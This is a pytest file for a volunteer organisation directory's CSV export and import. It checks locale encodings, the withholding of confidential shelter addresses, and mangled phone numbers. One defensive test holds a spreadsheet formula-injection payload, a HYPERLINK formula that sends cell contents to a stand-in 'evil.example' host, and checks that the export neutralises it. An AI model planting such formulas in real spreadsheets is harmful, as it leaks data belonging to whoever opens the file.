"""Spreadsheets as volunteers' programs save them, through orgs-export/-import.

Each file is written with Python's csv module the way the program writes it:
Excel's "CSV" in a Polish, German or Russian locale (semicolons, the Windows
code page), "CSV UTF-8" (commas, a byte-order mark), "Unicode text" (tabs,
UTF-16), LibreOffice and Google Sheets (commas, UTF-8 without a mark).
"""

from __future__ import annotations

import csv
import io
import json
import shutil

import pytest
import yaml
from sites import REPO
from test_volunteer_tools import GOOD, make_site, signposter

POLISH = "Fundacja Pomocy Prawnej dla kobiet z Łodzi i Gdańska: żadnych opłat."
GERMAN = "Kostenlose Beratung für Geflüchtete in München; Grüße, Straße."
FRENCH = "Aide gratuite et confidentielle, à Besançon : élèves, forêt, garçon."
RUSSIAN = "Бесплатная и конфиденциальная помощь; звоните круглосуточно."
UKRAINIAN = "Безкоштовна допомога біженцям: їжа, ліки, юристи, житло."


def organisation(identifier: str, description: str) -> str:
    return (
        GOOD.replace("GOODID", identifier)
        .replace("A free and confidential helpline.", json.dumps(description))
        .replace("  uk: Безкоштовна конфіденційна гаряча лінія.\n", "")
    )


def saved_as(text: str, delimiter: str, encoding: str, newline: str) -> bytes:
    """An exported sheet, saved again the way a spreadsheet program saves it."""
    rows = list(csv.reader(io.StringIO(text, newline="")))
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=delimiter, lineterminator=newline).writerows(rows)
    return buffer.getvalue().encode(encoding)


PROGRAMS = {
    "Excel, Polish locale": (";", "cp1250", "\r\n", POLISH, "Windows-1250"),
    "Excel, German locale": (";", "cp1252", "\r\n", GERMAN, "Windows-1252"),
    "Excel, French locale": (";", "cp1252", "\r\n", FRENCH, "Windows-1252"),
    "Excel, Russian locale": (";", "cp1251", "\r\n", RUSSIAN, "Windows-1251"),
    "Excel, Ukrainian locale": (";", "cp1251", "\r\n", UKRAINIAN, "Windows-1251"),
    "Excel, CSV UTF-8": (",", "utf-8-sig", "\r\n", UKRAINIAN, "UTF-8 with a byte"),
    "Excel, Unicode text": ("\t", "utf-16", "\r\n", RUSSIAN, "UTF-16"),
    "LibreOffice": (",", "utf-8", "\n", UKRAINIAN, "UTF-8,"),
    "Google Sheets": (",", "utf-8", "\r\n", POLISH, "UTF-8,"),
}


@pytest.mark.parametrize("program", PROGRAMS)
def test_import_reads_each_program_s_file(tmp_path, program):
    delimiter, encoding, newline, text, named = PROGRAMS[program]
    site = make_site(tmp_path, {"one": organisation("one", text)})
    assert signposter(site, "orgs-export", "-o", "orgs.csv").returncode == 0
    exported = (site / "orgs.csv").read_text(encoding="utf-8-sig")
    (site / "orgs.csv").write_bytes(saved_as(exported, delimiter, encoding, newline))
    original = yaml.safe_load((site / "content/organisations/one.yaml").read_text())
    (site / "content/organisations/one.yaml").unlink()
    result = signposter(site, "orgs-import", "orgs.csv")
    assert result.returncode == 0, result.stderr
    assert f"as {named}" in result.stderr
    written = (site / "content/organisations/one.yaml").read_text(encoding="utf-8")
    assert yaml.safe_load(written) == original
    assert text in written


def test_export_has_a_byte_order_mark_for_excel(tmp_path):
    site = make_site(tmp_path, {"one": organisation("one", UKRAINIAN)})
    assert signposter(site, "orgs-export", "-o", "orgs.csv").returncode == 0
    data = (site / "orgs.csv").read_bytes()
    assert data.startswith(b"\xef\xbb\xbfid,")
    assert UKRAINIAN.encode() in data


def test_export_neutralises_formulas_and_import_restores_them(tmp_path):
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    site = make_site(tmp_path, {"one": organisation("one", hostile)})
    original = yaml.safe_load((site / "content/organisations/one.yaml").read_text())
    assert signposter(site, "orgs-export", "-o", "orgs.csv").returncode == 0
    cells = next(
        csv.DictReader(io.StringIO((site / "orgs.csv").read_text("utf-8-sig")))
    )
    assert cells["description.en"] == "'" + hostile
    assert cells["phones.0.number"] == "+48 22 000 00 09"  # a phone stays a phone
    assert signposter(site, "orgs-import", "orgs.csv").returncode == 0
    again = (site / "content/organisations/one.yaml").read_text()
    assert yaml.safe_load(again) == original


def test_confidential_addresses_stay_out_unless_asked_for(tmp_path):
    site = make_site(tmp_path)
    shutil.copytree(
        REPO / "content/organisations",
        site / "content/organisations",
        dirs_exist_ok=True,
    )
    originals = {
        p.name: p.read_bytes() for p in (site / "content/organisations").iterdir()
    }
    shelter = (
        site / "content/organisations/example-pl-womens-shelter.yaml"
    ).read_text()
    assert "keep_secret: true" in shelter and "ul. Przykładowa 15" in shelter
    result = signposter(site, "orgs-export", "-o", "orgs.csv")
    assert "confidential address(es) left out" in result.stderr
    assert "Przykładowa 15" not in (site / "orgs.csv").read_text(encoding="utf-8-sig")
    # The import puts them back from the files: nothing is lost.
    assert signposter(site, "orgs-import", "orgs.csv").returncode == 0
    again = {p.name: p.read_bytes() for p in (site / "content/organisations").iterdir()}
    assert again == originals

    result = signposter(site, "orgs-export", "-o", "all.csv", "--include-confidential")
    assert "WARNING: the file holds" in result.stderr
    assert "Przykładowa 15" in (site / "all.csv").read_text(encoding="utf-8-sig")

    # Without the files, the sheet cannot bring them back: said so, by column.
    shutil.rmtree(site / "content/organisations")
    result = signposter(site, "orgs-import", "orgs.csv")
    assert result.returncode == 1
    assert (
        "addresses.0.keep_secret: this confidential address was left out of the "
        "export and example-pl-womens-shelter.yaml no longer has it — export again "
        "with --include-confidential"
    ) in result.stderr
    assert "addresses.0.country" not in result.stderr


@pytest.mark.parametrize(
    "cell, expected",
    [
        ("4.8220000009E+10", "scientific notation"),
        ("4,822E+10", "scientific notation"),
        ("48220000009", "the + before the country code is missing"),
        ("48 22 000 00 09", "the + before the country code is missing"),
    ],
)
def test_phone_numbers_a_spreadsheet_mangled_get_their_own_message(
    tmp_path, cell, expected
):
    site = make_site(tmp_path, {"one": organisation("one", "Help.")})
    assert signposter(site, "orgs-export", "-o", "orgs.csv").returncode == 0
    text = (site / "orgs.csv").read_text(encoding="utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    rows[1] = [cell if c == "+48 22 000 00 09" else c for c in rows[1]]
    with open(site / "orgs.csv", "w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows(rows)
    result = signposter(site, "orgs-import", "orgs.csv")
    assert result.returncode == 1
    assert f"orgs.csv:2: phones.0.number: {cell!r}: " in result.stderr
    assert expected in result.stderr
    assert "format the column as Text" in result.stderr
    assert "is not a valid number" not in result.stderr


def test_rows_deleted_from_the_sheet_are_reported_and_removed_on_request(tmp_path):
    site = make_site(
        tmp_path,
        {name: organisation(name, "Help.") for name in ("keep", "gone-a", "gone-b")},
    )
    assert signposter(site, "orgs-export", "-o", "orgs.csv").returncode == 0
    lines = (site / "orgs.csv").read_text(encoding="utf-8-sig").splitlines()
    (site / "orgs.csv").write_text(
        "\n".join(line for line in lines if not line.startswith("gone")) + "\n"
    )
    result = signposter(site, "orgs-import", "orgs.csv")
    assert result.returncode == 0, result.stderr
    assert (
        "2 organisation(s) are in " in result.stderr
        and "but not in the sheet: gone-a, gone-b; --delete removes them."
        in result.stderr
    )
    assert (site / "content/organisations/gone-a.yaml").exists()
    result = signposter(site, "orgs-import", "orgs.csv", "--delete")
    assert result.returncode == 0, result.stderr
    assert sorted(p.name for p in (site / "content/organisations").iterdir()) == [
        "keep.yaml"
    ]


def test_a_file_that_is_not_text_is_one_clear_error(tmp_path):
    site = make_site(tmp_path)
    (site / "orgs.csv").write_bytes(bytes(range(256)) * 4)
    result = signposter(site, "orgs-import", "orgs.csv")
    assert result.returncode == 1
    assert "orgs.csv: encoding:" in result.stderr
    assert "Traceback" not in result.stderr
